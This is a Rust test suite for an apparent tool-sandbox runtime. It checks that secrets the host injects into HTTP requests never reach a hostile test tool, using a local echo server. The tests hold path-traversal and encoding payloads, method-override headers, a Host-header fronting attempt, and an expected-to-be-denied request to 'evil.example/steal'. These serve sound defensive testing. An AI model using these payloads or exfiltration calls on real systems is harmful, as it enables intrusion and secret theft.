//! Egress rules and secrets the host sends (issue 31), attacked through a server on
//! 127.0.0.1 that reflects everything it receives. `secret_thief` sends any request it is
//! told to and returns all it saw hex-encoded (so output redaction cannot hide a leak); the
//! server's own log proves where the secret went.

use std::io::{BufRead, BufReader, Read, Write};
use std::net::{TcpListener, TcpStream};
use std::sync::{Arc, Mutex, OnceLock};

use serde_json::json;
use toolcell_runtime::{CallError, Policy, Runtime, ToolCall, ToolOutput};

use crate::common::{kind, value};

/// The secret the host holds for `secret_thief`, `http_fetch` and `http_flood`: with
/// characters a query must escape, so that each spelling of it is a different string.
const SECRET: &str = "tok/inj+ected=5f3a&9c71<x>";
/// The secret percent-encoded, as it goes out in a query.
const SECRET_IN_QUERY: &str = "tok%2Finj%2Bected%3D5f3a%269c71%3Cx%3E";

/// Every spelling of the secret a leak could take that the host could see: as is, reversed,
/// percent-encoded (either case), HTML-escaped, and JSON-escaped as PHP and Go write it.
fn spellings() -> Vec<String> {
    vec![
        SECRET.to_owned(),
        SECRET.chars().rev().collect(),
        SECRET_IN_QUERY.to_owned(),
        SECRET_IN_QUERY.to_ascii_lowercase(),
        "tok/inj+ected=5f3a&amp;9c71&lt;x&gt;".to_owned(),
        "tok\\/inj+ected=5f3a&9c71<x>".to_owned(),
        "tok/inj+ected=5f3a\\u00269c71\\u003cx\\u003e".to_owned(),
    ]
}

/// One request the server received: its request line and headers.
#[derive(Debug, Clone)]
struct Received {
    line: String,
    headers: Vec<(String, String)>,
}

impl Received {
    fn header(&self, name: &str) -> Vec<&str> {
        self.headers.iter().filter(|(key, _)| key.eq_ignore_ascii_case(name)).map(|(_, value)| value.as_str()).collect()
    }
}

struct World {
    runtime: Runtime,
    port: u16,
    received: Arc<Mutex<Vec<Received>>>,
}

fn world() -> &'static World {
    static WORLD: OnceLock<World> = OnceLock::new();
    WORLD.get_or_init(|| {
        let (port, received) = serve();
        let rules = |tool: &str| {
            format!(
                r#"
                [tools.{tool}]
                allow_hosts = ["localhost:{port}"]
                [tools.{tool}.secrets]
                TOKEN = {{ secret = "{SECRET}" }}
                [[tools.{tool}.http]]
                host = "http://127.0.0.1:{port}"
                methods = ["GET", "POST"]
                paths = ["/api/**"]
                headers = {{ Authorization = "Bearer {{secret:TOKEN}}" }}
                placeholders = ["TOKEN"]
                [[tools.{tool}.http]]
                host = "http://127.0.0.1:{port}"
                paths = ["/header-only/**"]
                headers = {{ Authorization = "Bearer {{secret:TOKEN}}" }}
                [[tools.{tool}.http]]
                host = "127.0.0.1:{port}"
                methods = ["GET"]
                paths = ["/repos/*/issues"]
                [[tools.{tool}.http]]
                host = "127.0.0.1:{port}"
                paths = ["/public/**"]
                "#
            )
        };
        let text = format!(
            "{}{}{}\n[tools.python]\ncall_tools = [\"http_fetch\", \"secret_thief\"]\n",
            rules("secret_thief"),
            rules("http_fetch"),
            rules("http_flood")
        );
        let policy = Policy::parse(&text, &std::env::temp_dir()).expect("a valid policy");
        let runtime = std::thread::spawn(move || {
            let tokio = tokio::runtime::Runtime::new().expect("tokio runtime");
            tokio.block_on(async {
                let builder = crate::common::standard_tools()
                    .component_file(toolcell_tests::SECRET_THIEF)
                    .component_file(toolcell_tests::HTTP_FLOOD);
                let runtime = builder.policy(policy).build().await.expect("runtime builds");
                assert_eq!(runtime.diagnostics(), &[], "every tool loads");
                runtime
            })
        })
        .join()
        .expect("runtime thread");
        World { runtime, port, received }
    })
}

/// The reflecting server. Every path answers with the request's head as the body and its
/// `Authorization` and `X-Key` headers echoed back, except:
/// `/api/redirect-host` (to `localhost`, another allowed host), `/api/redirect-path` (to
/// `/public/landed`, a path no secret goes to), `/api/malformed` (a broken response that
/// quotes the secret) and `/public/stored` (what `/api/store` was last sent).
fn serve() -> (u16, Arc<Mutex<Vec<Received>>>) {
    let listener = TcpListener::bind("127.0.0.1:0").expect("bind");
    let port = listener.local_addr().expect("address").port();
    let received = Arc::new(Mutex::new(Vec::new()));
    let seen = received.clone();
    std::thread::spawn(move || {
        for stream in listener.incoming().flatten() {
            let seen = seen.clone();
            std::thread::spawn(move || reflect(stream, port, &seen));
        }
    });
    (port, received)
}

fn reflect(mut stream: TcpStream, port: u16, seen: &Mutex<Vec<Received>>) {
    let mut reader = BufReader::new(stream.try_clone().expect("clone"));
    let mut head = String::new();
    let mut line = String::new();
    if reader.read_line(&mut line).is_err() {
        return;
    }
    head.push_str(&line);
    let mut headers = Vec::new();
    loop {
        let mut header = String::new();
        if reader.read_line(&mut header).map_or(true, |n| n == 0) || header == "\r\n" {
            break;
        }
        head.push_str(&header);
        if let Some((name, value)) = header.trim_end().split_once(':') {
            headers.push((name.trim().to_owned(), value.trim().to_owned()));
        }
    }
    let length = headers.iter().find(|(name, _)| name.eq_ignore_ascii_case("content-length"));
    if let Some(length) = length.and_then(|(_, value)| value.parse::<u64>().ok()) {
        let _ = std::io::copy(&mut (&mut reader).take(length), &mut std::io::sink());
    }
    let received = Received { line: line.trim_end().to_owned(), headers };
    let target = received.line.split_whitespace().nth(1).unwrap_or("/").to_owned();
    let echo = |name: &str| received.header(name).join(", ");
    let response = match target.split('?').next().unwrap_or_default() {
        "/api/redirect-host" => redirect(&format!("http://localhost:{port}/landed-host")),
        "/api/redirect-path" => redirect("/public/landed-path"),
        // What the last request to /api/store carried, to any path: a server that keeps it.
        "/public/stored" => {
            let stored = seen
                .lock()
                .expect("lock")
                .iter()
                .rev()
                .find(|got| got.line.contains("/api/store"))
                .map(|got| got.header("authorization").join(", "));
            let body = stored.unwrap_or_default();
            format!("HTTP/1.1 200 OK\r\ncontent-length: {}\r\nconnection: close\r\n\r\n{body}", body.len())
        }
        // Echoes, escaped as web servers and frameworks escape: HTML, PHP's and Go's JSON,
        // lower-case percent escapes.
        "/api/escaped" => {
            let token = received.header("authorization").join("").trim_start_matches("Bearer ").to_owned();
            let html = token.replace('&', "&amp;").replace('<', "&lt;").replace('>', "&gt;");
            let php = token.replace('/', "\\/");
            let go = token.replace('&', "\\u0026").replace('<', "\\u003c").replace('>', "\\u003e");
            let lower: String = token
                .bytes()
                .map(|b| {
                    if b.is_ascii_alphanumeric() || b"-._~".contains(&b) {
                        char::from(b).to_string()
                    } else {
                        format!("%{b:02x}")
                    }
                })
                .collect();
            let body = format!("<p>{html}</p> {{\"php\": \"{php}\", \"go\": \"{go}\"}} ?k={lower}");
            format!("HTTP/1.1 200 OK\r\ncontent-length: {}\r\nconnection: close\r\n\r\n{body}", body.len())
        }
        // A body cut short in the middle of the secret.
        "/api/trunc" => {
            let token = received.header("authorization").join("").trim_start_matches("Bearer ").to_owned();
            let body = format!("cut: {}", &token[..12]);
            format!("HTTP/1.1 200 OK\r\ncontent-length: {}\r\nconnection: close\r\n\r\n{body}", body.len())
        }
        // A compressed answer the host asked not to get (the body here is the plain echo).
        "/api/gzip" => format!(
            "HTTP/1.1 200 OK\r\ncontent-encoding: gzip\r\ncontent-length: {}\r\nconnection: close\r\n\r\n{head}",
            head.len()
        ),
        "/api/malformed" => {
            format!("HTTP/1.1 200 OK\r\nx-echo: {}\r\nthis line is not a header\r\n\r\n", echo("authorization"))
        }
        _ => format!(
            "HTTP/1.1 200 OK\r\ncontent-type: text/plain\r\nx-echo-authorization: {}\r\nx-echo-key: {}\r\n\
             content-length: {}\r\nconnection: close\r\n\r\n{head}",
            echo("authorization"),
            echo("x-key"),
            head.len()
        ),
    };
    seen.lock().expect("lock").push(received);
    let _ = stream.write_all(response.as_bytes());
}

fn redirect(location: &str) -> String {
    format!("HTTP/1.1 302 Found\r\nlocation: {location}\r\ncontent-length: 0\r\nconnection: close\r\n\r\n")
}

/// The requests the server has received whose target starts with `prefix`.
fn received(prefix: &str) -> Vec<Received> {
    let all = world().received.lock().expect("lock");
    all.iter()
        .filter(|received| received.line.split_whitespace().nth(1).is_some_and(|t| t.starts_with(prefix)))
        .cloned()
        .collect()
}

fn url(path: &str) -> String {
    format!("http://127.0.0.1:{}{path}", world().port)
}

/// What `secret_thief` saw, decoded, after checking the output itself holds no secret.
async fn steal(method: &str, url: &str, headers: &[(&str, &str)]) -> String {
    seen(&thief(method, url, headers).await)
}

async fn thief(method: &str, url: &str, headers: &[(&str, &str)]) -> ToolOutput {
    let headers: Vec<[&str; 2]> = headers.iter().map(|(name, value)| [*name, *value]).collect();
    let arguments = json!({"method": method, "url": url, "headers": headers});
    world().runtime.call(ToolCall::new("steal", "secret_thief", arguments)).await
}

/// What the thief saw (the hex in its result, or in its failure's message wherever the host
/// put it), decoded; neither the output nor what it saw may hold the secret.
fn seen(output: &ToolOutput) -> String {
    assert_no_secret(output);
    let everything = format!("{output:?}");
    let hex = everything.split(|c: char| !c.is_ascii_hexdigit()).max_by_key(|run| run.len()).unwrap_or_default();
    let bytes: Vec<u8> =
        (0..hex.len() / 2).map(|i| u8::from_str_radix(&hex[2 * i..2 * i + 2], 16).expect("hex")).collect();
    let seen = String::from_utf8_lossy(&bytes).into_owned();
    for spelling in spellings() {
        assert!(!seen.contains(&spelling), "the tool saw the secret as {spelling}:\n{seen}");
    }
    seen
}

/// The output holds the secret in no spelling the host could have let through.
fn assert_no_secret(output: &ToolOutput) {
    let everything = format!("{output:?}");
    for spelling in spellings() {
        assert!(!everything.contains(&spelling), "{spelling} in {everything}");
    }
}

#[tokio::test]
async fn the_host_sends_the_secret_on_covered_requests_and_the_tool_never_sees_it() {
    let seen = steal("GET", &url("/api/reflect-1"), &[]).await;
    let got = received("/api/reflect-1");
    assert_eq!(got[0].header("authorization"), [format!("Bearer {SECRET}")], "the server got the secret");
    assert!(seen.contains("status 200"), "{seen}");
    assert!(seen.contains("header x-echo-authorization: Bearer [REDACTED]"), "{seen}");
    assert!(seen.contains("authorization: Bearer [REDACTED]"), "the echoed body is redacted too: {seen}");
    assert!(
        !seen.contains("env TOKEN") && !seen.lines().any(|line| line.starts_with("env ")),
        "no environment: {seen}"
    );
}

#[tokio::test]
async fn a_server_that_keeps_the_secret_cannot_hand_it_back_on_a_request_without_it() {
    steal("GET", &url("/api/store"), &[]).await;
    let seen = steal("GET", &url("/public/stored"), &[]).await;
    assert!(received("/public/stored")[0].header("authorization").is_empty());
    assert!(seen.contains("Bearer [REDACTED]"), "the stored secret came back, redacted: {seen}");
}

#[tokio::test]
async fn escaped_truncated_and_compressed_echoes_never_reach_the_tool() {
    let seen = steal("GET", &url("/api/escaped"), &[]).await;
    assert_eq!(seen.matches("[REDACTED]").count(), 4, "each echo redacted: {seen}");
    let seen = steal("GET", &url("/api/trunc"), &[]).await;
    assert!(seen.ends_with("cut: [REDACTED]"), "{seen}");
    assert!(!seen.contains(&SECRET[..12]), "{seen}");
    // The tool asks for gzip; the host asks for none, and refuses what comes compressed anyway.
    let seen = steal("GET", &url("/api/gzip"), &[("Accept-Encoding", "gzip")]).await;
    assert!(seen.contains("content coding"), "{seen}");
    assert_eq!(received("/api/gzip")[0].header("accept-encoding"), ["identity"]);
}

#[tokio::test]
async fn a_refusal_after_the_secret_was_filled_in_quotes_the_request_as_the_tool_sent_it() {
    // More requests at once than a call may have in flight: the 17th is refused after its
    // placeholder was filled.
    let flood = json!({"url": url("/api/flood?k={secret:TOKEN}"), "count": 20});
    let output = world().runtime.call(ToolCall::new("flood", "http_flood", flood)).await;
    assert_no_secret(&output);
    assert!(format!("{output:?}").contains("{secret:TOKEN}"), "{output:#?}");
}

#[tokio::test]
async fn a_method_or_path_override_the_rule_does_not_allow_is_refused() {
    for (path, header) in [
        ("/repos/octo/issues", ("X-HTTP-Method-Override", "DELETE")),
        ("/repos/octo/issues?%5Fmethod=DELETE", ("X-Ignored", "1")),
        ("/repos/octo/issues", ("X-Original-URL", "/admin")),
    ] {
        let output = thief("GET", &url(path), &[header]).await;
        let Some(CallError::HttpDenied { reason, .. }) = &output.error else { panic!("{path}: {output:#?}") };
        assert!(reason.contains("method-override") || reason.contains("another path"), "{reason}");
    }
}

#[tokio::test]
async fn a_tool_cannot_take_an_echo_apart_or_move_a_header_secret_into_the_url() {
    // A byte range of an echo: the host drops `Range`, the whole echo comes back, redacted.
    let seen = steal("GET", &url("/api/reflect-range"), &[("Range", "bytes=40-43")]).await;
    assert!(seen.contains("status 200") && seen.contains("Bearer [REDACTED]"), "{seen}");
    assert!(received("/api/reflect-range")[0].header("range").is_empty());
    // A secret the rule sends only in a header is never filled into the tool's placeholder.
    steal("GET", &url("/header-only/x?k={secret:TOKEN}"), &[]).await;
    let got = &received("/header-only/x")[0];
    assert_eq!(got.header("authorization"), [format!("Bearer {SECRET}")]);
    assert!(got.line.contains("k={secret:TOKEN}"), "{got:?}");
}

#[tokio::test]
async fn a_header_the_tool_sets_never_overrides_the_injected_one() {
    let seen = steal("POST", &url("/api/reflect-2"), &[("Authorization", "Bearer the-tools-own")]).await;
    let got = received("/api/reflect-2");
    assert_eq!(got[0].header("authorization"), [format!("Bearer {SECRET}")], "{got:?}");
    assert!(!seen.contains("the-tools-own"), "{seen}");
}

#[tokio::test]
async fn a_placeholder_is_filled_only_on_the_requests_its_rule_covers() {
    let placeholder = "{secret:TOKEN}";
    let encoded = "%7Bsecret%3ATOKEN%7D";
    steal("GET", &url(&format!("/api/reflect-3?key={encoded}&raw={placeholder}")), &[("X-Key", placeholder)]).await;
    let got = &received("/api/reflect-3")[0];
    assert_eq!(got.header("x-key"), [SECRET]);
    assert_eq!(got.line, format!("GET /api/reflect-3?key={SECRET_IN_QUERY}&raw={SECRET_IN_QUERY} HTTP/1.1"));

    // Another allowed host, and a path of the same host no secret goes to: as written.
    let elsewhere = format!("http://localhost:{}/reflect-4?key={placeholder}", world().port);
    let seen = steal("GET", &elsewhere, &[("X-Key", placeholder)]).await;
    assert!(seen.contains("x-echo-key: {secret:TOKEN}"), "{seen}");
    steal("GET", &url(&format!("/public/reflect-5?key={placeholder}")), &[("X-Key", placeholder)]).await;
    for got in received("/reflect-4").iter().chain(&received("/public/reflect-5")) {
        assert_eq!(got.header("x-key"), [placeholder], "{got:?}");
        assert!(got.header("authorization").is_empty(), "{got:?}");
        assert!(got.line.contains("key={secret:TOKEN}"), "{got:?}");
    }
}

#[tokio::test]
async fn redirects_never_carry_the_secret_to_another_host_or_path() {
    for (from, landed) in [("/api/redirect-host", "/landed-host"), ("/api/redirect-path", "/public/landed-path")] {
        let output = world().runtime.call(ToolCall::new("fetch", "http_fetch", json!({"url": url(from)}))).await;
        assert_no_secret(&output);
        assert_eq!(value(&output)["status"], 200, "{output:#?}");
        assert_eq!(received(from)[0].header("authorization"), [format!("Bearer {SECRET}")]);
        let landed = received(landed);
        assert_eq!(landed.len(), 1, "{landed:?}");
        assert!(landed[0].header("authorization").is_empty(), "the redirect carried it: {landed:?}");
    }
}

#[tokio::test]
async fn errors_and_refusals_never_carry_the_secret() {
    // A broken response that quotes the secret.
    let malformed = steal("GET", &url("/api/malformed"), &[]).await;
    assert!(malformed.contains("error "), "{malformed}");
    // A refused request with the placeholder in it: quoted as the tool wrote it.
    let output = thief("DELETE", &url("/api/x?key={secret:TOKEN}"), &[]).await;
    assert_eq!(kind(&output), "http_denied", "{output:#?}");
    assert!(seen(&output).contains("HttpRequestDenied"));
    let arguments = json!({"url": url("/api/nowhere/%2e%2e/%2e%2e/admin?key={secret:TOKEN}")});
    let output = world().runtime.call(ToolCall::new("refused", "http_fetch", arguments)).await;
    assert_eq!(kind(&output), "http_denied", "{output:#?}");
    assert_no_secret(&output);
    assert!(received("/admin").is_empty() && received("/api/nowhere").is_empty());
}

#[tokio::test]
async fn the_host_header_cannot_front_another_site_with_the_secret() {
    let seen = steal("GET", &url("/api/fronted"), &[("Host", "evil.example")]).await;
    assert!(seen.contains("error headers refused"), "{seen}");
    assert!(received("/api/fronted").is_empty());
}

#[tokio::test]
async fn a_program_in_code_mode_cannot_read_the_secret_through_the_tools_it_calls() {
    let code = format!(
        r#"
import os
fetched = tools.http_fetch(url="{reflect}")
stolen = tools.secret_thief(method="GET", url="{reflect}", headers=[["X-Key", "{{secret:TOKEN}}"]])
seen = bytes.fromhex(stolen).decode()
everything = str(fetched) + seen + str(dict(os.environ))
[everything[::-1], "[REDACTED]" in str(fetched), "[REDACTED]" in seen]
"#,
        reflect = url("/api/reflect-code-mode")
    );
    let call = ToolCall::new("program", "python", json!({"code": code}));
    let (output, spans, events) = crate::spans::tool_call_spans_and_events("program", world().runtime.call(call)).await;
    let result = value(&output)["value"].clone();
    let reversed = result[0].as_str().expect("text");
    let everything: String = reversed.chars().rev().collect();
    assert!(!everything.contains(SECRET), "{everything}");
    assert_eq!((result[1].clone(), result[2].clone()), (json!(true), json!(true)), "both echoes were redacted");
    for got in received("/api/reflect-code-mode") {
        assert_eq!(got.header("authorization"), [format!("Bearer {SECRET}")], "{got:?}");
    }
    let logged = crate::redaction::everything(&spans, &events, &output);
    assert!(!logged.contains(SECRET), "{logged}");
}

#[tokio::test]
async fn path_rules_hold_against_encodings_case_slashes_and_fragments() {
    // Allowed: GET /repos/*/issues, however spelled; what the server gets is the normalized path.
    for (case, (path, sent)) in [
        ("/repos/octo/issues", "/repos/octo/issues"),
        ("//repos//octo//issues", "/repos/octo/issues"),
        ("/repos/%6Fcto/issues/", "/repos/octo/issues/"),
        ("/repos/./octo/issues?x=../../admin", "/repos/octo/issues?x=../../admin"),
    ]
    .into_iter()
    .enumerate()
    {
        let tag = |path: &str| format!("{path}{}case={case}", if path.contains('?') { '&' } else { '?' });
        let seen = steal("GET", &url(&tag(path)), &[]).await;
        assert!(seen.contains("status 200"), "{path}: {seen}");
        let expected = format!("GET {} HTTP/1.1", tag(sent));
        let all = world().received.lock().expect("lock").clone();
        assert!(all.iter().any(|got| got.line == expected), "{path} did not go out as {sent}: {all:?}");
    }
    // Refused or denied: a step up in any spelling, an encoded slash in a one-segment
    // wildcard, another case, another method.
    for (method, path, says) in [
        ("GET", "/repos/octo/issues/..%2F..%2Fadmin", "`..`"),
        ("GET", "/repos/octo%2F..%2F..%2Fadmin/issues", "`..`"),
        ("GET", "/repos/%2e%2e/issues", "`..`"),
        ("GET", "/repos/%252e%252e/issues", "double-encoded"),
        ("GET", "/repos/..;/issues", "`..`"),
        ("GET", "/repos/octo/issues/..%3B/..%3B/admin", "`..`"),
        ("GET", "/repos/%C0%AE%C0%AE/issues", "look-alike"),
        ("GET", "/repos/octo/issues%00.json", "NUL"),
        ("GET", "/repos/octo%2Fhello/issues", "not one of them"),
        ("GET", "/REPOS/octo/issues", "not one of them"),
        ("DELETE", "/repos/octo/issues", "not one of them"),
    ] {
        let output = thief(method, &url(path), &[]).await;
        let Some(CallError::HttpDenied { reason, .. }) = &output.error else { panic!("{path}: {output:#?}") };
        assert!(reason.contains(says), "{path}: {reason}");
    }
    // A fragment never leaves the host: the path before it is what is checked and sent.
    let seen = steal("GET", &url("/repos/octo/issues#/../../admin"), &[]).await;
    assert!(seen.contains("status 200") || seen.contains("error bad path"), "{seen}");
    assert!(received("/admin").is_empty() && received("/repos/admin").is_empty());
}

#[tokio::test]
async fn a_denial_tells_the_operator_the_narrowest_rule_that_would_allow_it() {
    let arguments = json!({"method": "DELETE", "url": url("/repos/octo/issues"), "headers": []});
    let call = ToolCall::new("denial", "secret_thief", arguments);
    let (output, spans, _) = crate::spans::tool_call_spans_and_events("denial", world().runtime.call(call)).await;
    let Some(CallError::HttpDenied { rule, allowed, .. }) = &output.error else { panic!("{output:#?}") };
    let port = world().port;
    let expected = format!(r#"{{ host = "127.0.0.1:{port}", methods = ["DELETE"], paths = ["/repos/*/issues"] }}"#);
    assert_eq!(rule.as_deref(), Some(expected.as_str()));
    assert!(allowed.contains(&format!("GET 127.0.0.1:{port} under /repos/*/issues")), "{allowed:?}");
    assert!(output.content.contains("use a URL and method one of them allows"), "{}", output.content);
    assert_eq!(
        spans[0].get("toolcell.http.suggested_rule").map(String::as_str),
        Some(format!("add {expected}").as_str())
    );
    let arguments = json!({"method": "GET", "url": "http://evil.example/steal?k=1", "headers": []});
    let output = world().runtime.call(ToolCall::new("denial", "secret_thief", arguments)).await;
    let Some(CallError::HttpDenied { rule, grant, .. }) = &output.error else { panic!("{output:#?}") };
    assert_eq!(grant.as_deref(), Some("evil.example"));
    assert_eq!(rule.as_deref(), Some(r#"{ host = "evil.example", methods = ["GET"], paths = ["/steal"] }"#));
}
